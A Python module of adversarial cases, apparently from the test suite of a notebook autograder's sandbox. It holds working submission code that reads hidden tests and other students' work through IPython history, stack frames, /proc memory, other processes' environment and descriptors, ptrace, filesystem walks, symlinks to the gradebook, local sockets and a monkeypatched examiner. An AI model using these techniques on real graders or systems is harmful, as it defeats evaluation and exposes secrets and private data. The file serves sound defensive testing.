"""Attempts to read the hidden tests, the solutions, the grades, and other people's work."""

from tampering.attack import COURSE, PORT, Attack

#: Prints what of the hidden tests or of the course it finds in a text. The words stand here backwards: a search of its own
#: memory would find them otherwise.
_FOUND = """
import os, sys
BACKWARDS = ["doowarbez", "lahwran", "aggauq", "ipako", "526.38", "-yranac"]
def report(text, where=""):
    for word in BACKWARDS:
        place = text.find(word[::-1])
        if place >= 0: print("FOUND", where, text[max(0, place - 200) : place + 200])
def read(path):
    try: report(open(path, "rb").read(50_000_000).decode("latin-1"), path)
    except OSError: pass
"""
_WRONG = "def double(x):\n    return x - 1\n"

ATTACKS = [
    Attack(
        "history",
        "Prints the shell's history, its caches and its outputs, in which a kernel would hold the tests.",
        answer=_FOUND
        + """
def double(x):
    shell = get_ipython()
    for thing in (In, Out, shell.user_ns, shell.history_manager.input_hist_raw, vars(shell.compile)):
        report(str(thing), "history")
    return x - 1
import linecache
report(str(linecache.cache), "linecache")
""",
        after="report(str(In) + str(get_ipython().user_ns.keys()))\ndouble(np.ones(2))",
    ),
    Attack(
        "frames",
        "Walks the frames of whoever calls the function, for the expected results.",
        answer=_FOUND
        + """
import inspect, sys
found = []
def double(x):
    frame = sys._getframe()
    while frame:
        found.append(repr(dict(frame.f_locals)) + repr(frame.f_globals) + str(inspect.getsourcelines(frame))[:100_000])
        for name, value in {**frame.f_globals, **frame.f_locals}.items():
            if name in ("expected", "returns", "like"): return value
        frame = frame.f_back
    return x - 1
""",
        after="report(''.join(found))",
    ),
    Attack(
        "all objects",
        "Looks through all objects that the garbage collector knows, while the test runs and afterwards.",
        answer=_FOUND
        + """
import gc
def look(where):
    for thing in gc.get_objects():
        if type(thing) in (dict, list, tuple) and len(thing) < 2_000:
            for each in thing.values() if type(thing) is dict else thing:
                if type(each) in (str, bytes): report(str(each), where)
look("before")
def double(x):
    look("called")
    return x - 1
""",
        after="look('after')",
    ),
    Attack(
        "its own memory",
        "Searches its own memory for the words of the hidden tests, also what the zygote left there.",
        answer=_FOUND
        + """
def search():
    left = 200_000_000
    with open("/proc/self/mem", "rb", buffering=0) as memory:
        for line in open("/proc/self/maps"):
            parts = line.split()
            start, end = (int(part, 16) for part in parts[0].split("-"))
            named = len(parts) > 5 and parts[5] != "[heap]"
            if not parts[1].startswith("rw") or named or end - start > left: continue
            try:
                memory.seek(start)
                data = memory.read(end - start)
            except (OSError, ValueError, OverflowError): continue
            left -= len(data)
            for begin, rest in ((b"zebra", b"sesac_doow"), (b"A narwh", b"eht sdraug la"), (b"pango", b"dneppa.nil")):
                place = data.find(begin)
                while place >= 0:
                    after = place + len(begin)
                    if data[after : after + len(rest)] == rest[::-1]: print("FOUND", begin, rest)
                    place = data.find(begin, after)
def double(x):
    search()
    return x - 1
search()
""",
        settings={"call_seconds": 8.0, "cell_seconds": 8.0},
    ),
    Attack(
        "another process's memory",
        "Reads the memory of other processes: /proc, process_vm_readv, ptrace, the parent's descriptors.",
        answer=_FOUND
        + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for name in filter(str.isdigit, os.listdir("/proc")):
    pid = int(name)
    if pid == os.getpid(): continue
    for part in ("environ", "maps", "auxv", "stack", "syscall", "wchan"): read(f"/proc/{pid}/{part}")
    try: print("FOUND the memory of", pid, os.open(f"/proc/{pid}/mem", os.O_RDONLY))
    except OSError: pass
    for number in range(64):  # how many a process has may be seen; what they are may not
        for use in (os.readlink, lambda path: os.open(path, os.O_RDONLY)):
            try: print("FOUND a descriptor of", pid, use(f"/proc/{pid}/fd/{number}"))
            except OSError: pass
    if libc.ptrace(16, pid, 0, 0) == 0: print("FOUND a way to trace", pid)
    buffer = ctypes.create_string_buffer(64)
    vector = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 64)
    if libc.process_vm_readv(pid, vector, 1, vector, 1, 0) > 0: print("FOUND a way to read", pid)
    for way in (438, 434):
        got = libc.syscall(way, pid, 0, 0)
        if way == 438 and got >= 0: print("FOUND a descriptor of", pid)
"""
        + _WRONG,
    ),
    Attack(
        "notebooks on disk",
        "Walks the whole file system for notebooks, databases and results.",
        answer=_FOUND
        + """
for top, folders, names in os.walk("/"):
    if top in ("/proc", "/sys", "/usr") or "site-packages" in top: folders.clear()
    for name in names:
        if name.endswith((".ipynb", ".db", ".json", ".log", ".sock", ".py")) or "canary" in name:
            path = os.path.join(top, name)
            if name.endswith((".ipynb", ".db", ".sock")): print("FOUND", path)
            read(path)
"""
        + _WRONG,
    ),
    Attack(
        "the instructor's folders",
        "Opens the source notebook, the gradebook, the results and another submission by their very paths.",
        answer=_FOUND
        + f"""
course = {COURSE!r}
for path in ("source/trust/trust.ipynb", "gradebook.db", "results/ada/trust.json", "submitted/ada/trust/trust.ipynb",
             "nbgrader_config.py", "home/.bashrc", "home/.ipython/profile_default/startup/00.py"):
    for root in (course, "/proc/1/root" + course, "/proc/1/cwd/../.." + course, "/proc/self/root" + course):
        read(f"{{root}}/{{path}}")
        if os.path.exists(f"{{root}}/{{path}}"): print("FOUND", root)
import course as package
from pathlib import Path
beside = Path(package.__file__).resolve().parents[1]
for name in ("source", "submitted", "results", "release", "tests", "gradebook.db", ".git", "nbgrader_config.py"):
    if (beside / name).exists(): print("FOUND", name)
"""
        + _WRONG,
    ),
    Attack(
        "the generators of hidden files",
        "Imports what hidden tests make their files from, and looks for it in the package and in the modules of the process.",
        answer="""
import importlib, os, pkgutil, sys
import course
found = [name for name in sys.modules if name.startswith("course.oracles.")]
for name in ("course.oracles.bakery", "course.oracles.bakery_files", "course.datasets.bakery"):
    try: found.append(importlib.import_module(name).__name__)
    except ImportError: pass
for folder, _, names in os.walk(os.path.dirname(course.__file__)):
    found += [name for name in names if name.startswith("bakery")]
found += [each.name for each in pkgutil.walk_packages(course.__path__, onerror=print) if "bakery" in each.name]
if found: print("A GENERATOR IS WITHIN REACH", found)
"""
        + _WRONG,
        unseen=("A GENERATOR IS WITHIN REACH",),
    ),
    Attack(
        "links to the instructor's folders",
        "Puts links in the place of files that a test opens.",
        answer=f"""
import os
for name, aim in (("numbers.npy", "gradebook.db"), ("scale.keras", "source/trust/trust.ipynb")):
    os.symlink({COURSE!r} + "/" + aim, name)
""",
        target="saved",
    ),
    Attack(
        "a file that is a device",
        "Puts an endless device, and a pipe that nobody fills, in the place of files that a test opens.",
        answer="import os\nos.symlink('/dev/zero', 'numbers.npy')\nos.mkfifo('scale.keras')",
        target="saved",
    ),
    Attack(
        "environment",
        "Prints the environment, the arguments and the descriptors of every process that can be seen.",
        answer=_FOUND
        + """
report(str(dict(os.environ)) + str(sys.argv) + str(sys.orig_argv))
for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline", "comm", "mountinfo", "status"): read(f"/proc/{pid}/{name}")
for number in range(64):
    try: report(os.pread(number, 5_000_000, 0).decode("latin-1"), f"descriptor {number}")
    except OSError: pass
"""
        + _WRONG,
    ),
    Attack(
        "the network",
        "Asks servers on this machine for what they know, and sends away what it has.",
        answer=f"""
import socket
def attempt(family, address, kind=socket.SOCK_STREAM):
    try:
        with socket.socket(family, kind) as made:
            made.settimeout(0.3)
            made.connect(address)
            made.send(b"hello")
            print("FOUND a way out", address)
    except OSError: pass
for address in ("127.0.0.1", "127.0.0.2", "0.0.0.0", "localhost"):
    attempt(socket.AF_INET, (address, {PORT}))
attempt(socket.AF_INET6, ("::1", {PORT}))
attempt(socket.AF_INET6, ("::ffff:127.0.0.1", {PORT}))
attempt(socket.AF_UNIX, {COURSE!r} + "/listener.sock")
attempt(socket.AF_UNIX, "\\0course-listener-{PORT}")
"""
        + _WRONG,
    ),
    Attack(
        "the zygote",
        "Looks for the socket of the process that forked it, to have a process forked with other limits.",
        answer=_FOUND
        + """
import glob, socket
for path in glob.glob("/tmp/**/*.sock", recursive=True) + glob.glob("/run/**/*.sock", recursive=True):
    print("FOUND", path)
for line in open("/proc/net/unix").readlines()[1:]:
    name = line.split()[-1]
    if name.startswith(("/", "@")): print("FOUND", name)
"""
        + _WRONG,
    ),
    Attack(
        "the function passed in",
        "Takes the test's own function apart, for its code, its globals and its closure.",
        answer=_FOUND
        + """
found = []
def thrice(function, x):
    for name in ("__code__", "__globals__", "__closure__", "__defaults__", "__module__", "__dict__", "__self__"):
        found.append(repr(getattr(function, name, None)))
    import inspect, dis
    try: found.append(inspect.getsource(function))
    except (OSError, TypeError): pass
    for value in getattr(function, "__globals__", {}).values():
        if isinstance(value, list) and len(value) == 3: return value[-1]
    for cell in getattr(function, "__closure__", None) or ():
        found.append(repr(cell.cell_contents))
    return x
""",
        target="thrice",
        after="report(''.join(found))",
    ),
    Attack(
        "asks the examiner",
        "Has the examiner's end answer questions: attributes of the test's objects, names, files.",
        answer=_FOUND
        + """
import gc
def double(x):
    process = next(each for each in gc.get_objects() if type(each).__name__ == "StudentProcess")
    from course.grading.wire import frames
    frames.send(process._examiner, {"do": "get", "name": "sesac_doowarbez"[::-1]})
    process._examiner.settimeout(1)
    try: report(str(frames.receive(process._examiner)), "answer")
    finally: process._examiner.settimeout(None)
    return x - 1
""",
    ),
    Attack(
        "prints what it is called with",
        "Prints the hidden test's inputs while it is called, by every way of printing.",
        answer="""
import os, sys
def double(x):
    from IPython.display import display
    text = f"inputs {x.tolist()}\\n"
    print(text)
    display(text)
    sys.stderr.write(text)
    os.write(1, text.encode())
    os.write(2, text.encode())
    os.system("echo inputs " + str(x.tolist())[1:-1])
    import warnings, logging
    warnings.warn(text)
    logging.error(text)
    get_ipython().display_pub.publish({"text/plain": text})
    return x - 1
""",
    ),
    Attack(
        "tells by its error",
        "Raises an error whose class, text and line hold the hidden test's inputs.",
        answer="""
def double(x):
    if len(x) == 3: return 2 * x
    text = str(x.tolist())
    code = compile(f"raise type({text!r}, (ValueError,), {{}})({text!r})  # {text}", "<ipython-input-double>", "exec")
    import linecache
    line = f"raise ValueError({text!r})"
    linecache.cache["<ipython-input-double>"] = (len(line), None, [line], "<ipython-input-double>")
    exec(code)
""",
    ),
    Attack(
        "names of files",
        "Listens for the names of the files that a hidden test reads.",
        answer="""
import gc
from pathlib import Path
process = next(each for each in gc.get_objects() if type(each).__name__ == "StudentProcess")
asked, plain = [], type(process)._look_up
def listen(self, do, message, codec):
    asked.append(str(message.get("name")) + str(message.get("names")))
    return plain(self, do, message, codec)
type(process)._look_up = listen
np.save("numbers.npy", np.zeros(2))
""",
        target="saved",
        after="print('FOUND' if any('scale' in name for name in asked) else 'nothing', len(asked))",
    ),
]
